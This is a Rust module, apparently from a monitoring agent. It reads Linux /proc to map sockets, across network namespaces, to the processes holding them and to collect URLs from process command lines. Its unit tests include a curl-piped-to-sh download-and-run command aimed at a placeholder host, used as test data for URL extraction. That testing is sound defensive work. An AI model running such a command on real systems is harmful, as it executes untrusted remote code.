//! What the kernel knows of sockets and of the processes that hold them: `proc(5)`.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::io::Read as _;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use procfs::net::{TcpNetEntry, TcpState, UdpNetEntry};
use procfs::process::{FDTarget, Process as Handle, all_processes};
use serde::Serialize;
use tokio::time::Instant;
use writ_lists::Kind;

/// Sockets that are looked at: what a busy proxy has. Of more the answer says so.
const MAX_LINKS: usize = 500_000;
/// Bytes of a command line. What somebody writes there, they may write without end.
const MAX_COMMAND_LINE: u64 = 64 << 10;
/// URLs of one command line, bytes of one, and bytes of all of them.
const MAX_URLS: usize = 256;
const MAX_URL: usize = 2048;
const MAX_URL_BYTES: usize = 32 << 20;
/// How long command lines are read.
const COMMAND_LINES_FOR: Duration = Duration::from_secs(5);
/// Characters of a program's name.
const MAX_PROGRAM: usize = 200;
/// What a URL begins with in a command line.
const BEGINNINGS: [&str; 3] = ["http://", "https://", "ftp://"];

/// A process of this host.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize)]
pub(crate) struct Process {
    /// Its number.
    pub pid: i32,
    /// The number of its user.
    pub user: u32,
    /// The program's file, or its name when that cannot be seen.
    pub program: String,
}

/// The host of a URL that is written in one way.
pub(super) fn host_of(url: &str) -> Option<String> {
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = match host.strip_prefix('[') {
        Some(v6) => v6.split(']').next()?,
        None => host.split(':').next()?,
    };
    Some(host.to_owned()).filter(|host| !host.is_empty())
}

/// A socket.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Link {
    pub(super) protocol: &'static str,
    pub(super) local: SocketAddr,
    /// The other end; `None`: it takes what comes.
    pub(super) peer: Option<SocketAddr>,
    /// Whose; `None`: not seen.
    pub(super) pid: Option<i32>,
    /// Both ends have ended it; the kernel keeps it for a minute.
    pub(super) is_over: bool,
    /// In which of the networks of this host; zero when it has no number.
    pub(super) network: u64,
}

impl Link {
    /// The address that counts: of the other end, or where it listens.
    pub(super) fn end(&self) -> IpAddr {
        self.peer.unwrap_or(self.local).ip()
    }
}

/// All of it.
#[derive(Debug, Default)]
pub(super) struct Table {
    pub(super) links: Vec<Link>,
    pub(super) processes: BTreeMap<i32, Process>,
    /// URLs that command lines name, each written in one way, and by whom.
    pub(super) urls: BTreeMap<String, Vec<i32>>,
    /// Processes that this agent may not look into.
    pub(super) unseen: usize,
    /// The kernel shows this agent no processes but its own user's.
    pub(super) hides_others: bool,
    /// Command lines and tables of sockets of which not all was looked at.
    pub(super) cut: usize,
}

impl Table {
    /// As it is now. What ends meanwhile is passed over.
    pub(super) fn read() -> Self {
        // The first process is always there. Of one that is hidden (`hidepid`, proc(5)) the folder can be
        // opened, and nothing in it.
        let hides_others = Handle::new(1).and_then(|first| first.stat()).is_err();
        let mut table = Self { hides_others, ..Self::default() };
        let (mut holders, mut networks) = (HashMap::new(), HashSet::new());
        let (mut sockets, mut url_bytes) = (Vec::new(), 0);
        // Whoever fills command lines must not keep sockets from being looked at.
        let until = Instant::now() + COMMAND_LINES_FOR;
        for handle in all_processes().into_iter().flatten().flatten() {
            match handle.fd() {
                Ok(open) => {
                    for open in open.flatten() {
                        if let FDTarget::Socket(inode) = open.target {
                            holders.entry(inode).or_insert(handle.pid);
                        }
                    }
                }
                Err(_) => table.unseen += 1,
            }
            // Each network of this host once: containers have their own. What ends before it was read shows none.
            if let Some(network) = network_of(&handle)
                && !networks.contains(&network)
                && let Some(read) = read_network(&handle)
            {
                networks.insert(network);
                sockets.extend(read.into_iter().map(|(link, inode)| (Link { network, ..link }, inode)));
            }
            let Some(process) = read_process(&handle) else { continue };
            if Instant::now() < until {
                table.read_command_line(&handle, &mut url_bytes);
            } else {
                table.cut += 1;
            }
            table.processes.insert(process.pid, process);
        }
        if networks.is_empty()
            && let Ok(own) = Handle::myself()
        {
            sockets.extend(read_network(&own).into_iter().flatten());
        }
        table.cut += usize::from(sockets.len() > MAX_LINKS);
        sockets.truncate(MAX_LINKS);
        let held =
            sockets.into_iter().map(|(link, inode)| Link { pid: holders.get(&inode).copied(), ..link });
        table.links = held.collect();
        table
    }

    fn read_command_line(&mut self, handle: &Handle, url_bytes: &mut usize) {
        let Ok(file) = handle.open_relative("cmdline") else { return };
        let mut line = Vec::new();
        if file.take(MAX_COMMAND_LINE + 1).read_to_end(&mut line).is_err() {
            return;
        }
        let mut is_cut = u64::try_from(line.len()).is_ok_and(|length| length > MAX_COMMAND_LINE);
        // Whatever bytes stand beside a URL, they do not hide it.
        let line = String::from_utf8_lossy(&line);
        let (urls, has_more) = urls_in(&line);
        is_cut |= has_more;
        for url in urls {
            if *url_bytes + url.len() > MAX_URL_BYTES {
                is_cut = true;
                break;
            }
            let named = self.urls.entry(url.clone()).or_default();
            if named.last() != Some(&handle.pid) {
                *url_bytes += url.len() + size_of::<i32>();
                named.push(handle.pid);
            }
        }
        self.cut += usize::from(is_cut);
    }
}

fn network_of(handle: &Handle) -> Option<u64> {
    let namespaces = handle.namespaces().ok()?;
    namespaces.0.get(std::ffi::OsStr::new("net")).map(|network| network.identifier)
}

fn read_process(handle: &Handle) -> Option<Process> {
    let user = handle.uid().ok()?;
    let name = || handle.stat().ok().map(|stat| stat.comm);
    let program = handle.exe().ok().map(|exe| exe.display().to_string()).or_else(name)?;
    let program = program.chars().take(MAX_PROGRAM).collect();
    Some(Process { pid: handle.pid, user, program })
}

/// URLs in a text, each written in one way, and whether there are more.
fn urls_in(text: &str) -> (Vec<String>, bool) {
    let mut found = Vec::new();
    let mut starts: Vec<_> =
        BEGINNINGS.iter().flat_map(|beginning| text.match_indices(beginning).map(|(at, _)| at)).collect();
    starts.sort_unstable();
    let has_more = starts.len() > MAX_URLS;
    for at in starts.into_iter().take(MAX_URLS) {
        let is_end =
            |c: char| c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '`' | '<' | '>');
        // No list and no object has a longer one, and each of many begins in the one before.
        let most = text.floor_char_boundary(at.saturating_add(MAX_URL + 1));
        let url = text[at..most].split(is_end).next().unwrap_or_default();
        if url.len() <= MAX_URL {
            found.extend(Kind::Url.canonical(url.trim_end_matches([',', ';', ')', ']'])));
        }
    }
    found.sort();
    found.dedup();
    (found, has_more)
}

/// The sockets of a network; `None`: it cannot be read.
fn read_network(handle: &Handle) -> Option<Vec<(Link, u64)>> {
    let mut sockets = Vec::new();
    // A kernel may have no IPv6.
    let tcp = [handle.tcp().ok()?, handle.tcp6().unwrap_or_default()].into_iter().flatten();
    sockets.extend(tcp.filter_map(|entry| Some((tcp_link(&entry)?, entry.inode))));
    let udp = [handle.udp(), handle.udp6()].into_iter().flatten().flatten();
    sockets.extend(udp.map(|entry| (udp_link(&entry), entry.inode)));
    Some(sockets)
}

fn canonical(address: SocketAddr) -> SocketAddr {
    SocketAddr::new(address.ip().to_canonical(), address.port())
}

fn tcp_link(entry: &TcpNetEntry) -> Option<Link> {
    let peer = match entry.state {
        // Anybody can send a first packet in somebody else's name.
        TcpState::Close | TcpState::SynRecv | TcpState::NewSynRecv => return None,
        TcpState::Listen => None,
        TcpState::Established
        | TcpState::SynSent
        | TcpState::FinWait1
        | TcpState::FinWait2
        | TcpState::TimeWait
        | TcpState::CloseWait
        | TcpState::LastAck
        | TcpState::Closing => Some(canonical(entry.remote_address)),
    };
    let is_over = matches!(entry.state, TcpState::TimeWait | TcpState::FinWait2) && entry.inode == 0;
    Some(Link { is_over, ..link("tcp", entry.local_address, peer) })
}

fn udp_link(entry: &UdpNetEntry) -> Link {
    // A UDP socket without a peer takes from anybody.
    let peer = (entry.remote_address.port() != 0).then(|| canonical(entry.remote_address));
    link("udp", entry.local_address, peer)
}

fn link(protocol: &'static str, local: SocketAddr, peer: Option<SocketAddr>) -> Link {
    Link { protocol, local: canonical(local), peer, pid: None, is_over: false, network: 0 }
}

#[cfg(test)]
mod tests {
    use std::net::{TcpListener, TcpStream};

    use super::*;

    #[test]
    fn what_this_test_itself_talks_to_is_in_the_table_with_its_process() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let at = listener.local_addr().unwrap();
        let stream = TcpStream::connect(at).unwrap();
        let from = stream.local_addr().unwrap();
        let table = Table::read();
        let own = i32::try_from(std::process::id()).unwrap();
        let has = |local, peer| {
            table.links.iter().any(|link| {
                (link.protocol, link.local, link.peer, link.pid) == ("tcp", local, peer, Some(own))
            })
        };
        assert!(has(at, None), "it listens");
        assert!(has(from, Some(at)), "it talks");
        let process = &table.processes[&own];
        assert_eq!(process.user, rustix::process::getuid().as_raw());
        assert!(process.program.starts_with('/'), "{process:?}");
    }

    #[test]
    fn urls_are_found_in_arguments_whatever_stands_around_them() {
        let long = format!("http://a.example/{}", "x".repeat(MAX_URL));
        let decoys = "http://d.example/ ".repeat(MAX_URLS);
        for (text, urls, has_more) in [
            ("http://Evil.example:80/a#b", vec!["http://evil.example/a"], false),
            ("--url=https://evil.example/a?b=c,", vec!["https://evil.example/a?b=c"], false),
            (
                "sh -c 'curl http://a.example/ | sh; wget \"ftp://b.example/x\"'",
                vec!["ftp://b.example/x", "http://a.example/"],
                false,
            ),
            ("x\0http://a.example/\0\u{fffd}", vec!["http://a.example/"], false),
            ("http://", vec![], false),
            ("hxxp://evil.example", vec![], false),
            (&long, vec![], false),
            ("nothing", vec![], false),
            (&format!("{decoys}https://evil.example/"), vec!["http://d.example/"], true),
        ] {
            assert_eq!(urls_in(text), (urls.into_iter().map(str::to_owned).collect(), has_more), "{text}");
        }
        for (url, host) in [
            ("http://a.example/x", Some("a.example")),
            ("http://a.example:8080/x", Some("a.example")),
            ("https://u:p@a.example?x", Some("a.example")),
            ("http://[2001:db8::1]:8080/", Some("2001:db8::1")),
            ("http:///x", None),
            ("a.example", None),
        ] {
            assert_eq!(host_of(url).as_deref(), host, "{url}");
        }
    }
}
